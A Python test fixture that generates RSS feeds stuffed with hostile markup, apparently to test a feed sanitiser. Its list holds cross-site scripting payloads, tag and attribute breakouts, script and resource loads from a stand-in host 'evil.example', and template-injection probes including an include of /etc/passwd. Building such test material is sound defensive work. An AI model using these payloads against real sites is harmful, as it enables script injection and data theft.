"""Two hundred things that should never run, each made to call `ran()` or to ask another host for something."""

from html import escape
from random import Random
from urllib.parse import quote

EVIL = "https://evil.example/x"
_RUN = "window.ran=1;alert(1)"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={EVIL}.js></sCrIpT>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src={EVIL}.png>",
    f"<svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>a</text></a></svg>",
    f"<math><mtext></p><img src=x onerror='{_RUN}'></math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}.css'>",
    f"<style>@import '{EVIL}.css'; body{{background:url({EVIL})}}</style>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><input autofocus onfocus='{_RUN}'></form>",
    f"<video src=x onerror='{_RUN}'></video>",
    f"<audio autoplay onloadstart='{_RUN}' src='{EVIL}'></audio>",
    f"<details open ontoggle='{_RUN}'>a</details>",
    f"<body onload='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>a</marquee>",
    f"<a href='javascript:{_RUN}'>a</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>a</a>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<!--[if mso]><script>{_RUN}</script><![endif]-->",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    f"${{{_RUN}}}",
    f"[a](javascript:{_RUN})",
    f"![a]({EVIL}.png)",
    f"<{_RUN}//",
)
PLACES = ("title", "body", "author", "picture", "address")


def payloads() -> list[tuple[str, str]]:
    """(place, payload) for each of the two hundred."""
    return [(place, text) for text in _MARKUP for place in PLACES]


def babble(number: int) -> str:
    """Sixty words that no other number has, so that no item is taken for another's copy."""
    chance = Random(number)
    syllables = [f"{one}{two}" for one in "bdfgklmnprstvz" for two in "aeiou"]
    return " ".join("".join(chance.choices(syllables, k=3)) for _ in range(60)).capitalize() + "."


def hostile_item(number: int, said: dict[str, str]) -> str:
    """An item of a feed that has a payload in each of its places."""
    own = babble(number)
    body = f"<p>{own}</p><p>{escape(said['body'])}</p>{said['body']}"
    return (
        f"<item><title>{escape(f'{own[:40]} ' + said['title'])}</title>"
        f"<link>https://paper.example/{number}?{escape(quote(said['address'], safe='<>()=;:/'))}&amp;n={number}</link>"
        f"<guid isPermaLink='false'>{number} {escape(said['address'])}</guid>"
        f"<dc:creator>{escape(said['author'])}</dc:creator>"
        f"<enclosure url='https://evil.example/{escape(said['picture'], quote=True)}.png' type='image/png'/>"
        "<pubDate>Fri, 20 Nov 2026 09:00:00 +0000</pubDate>"
        f"<description>{escape(body)}</description></item>"
    )


def hostile_feeds(count: int) -> list[str]:
    """So many feeds that hold them all, five to an item."""
    items: list[dict[str, str]] = []
    for place, text in payloads():
        if not items or place in items[-1]:
            items.append({})
        items[-1][place] = text
    feeds: list[list[str]] = [[] for _ in range(count)]
    for number, said in enumerate(items):
        feeds[number % count].append(hostile_item(number, said))
    return [
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>{escape('<script>window.ran=1</script>')}</title>{''.join(found)}</channel></rss>"
        for found in feeds
    ]
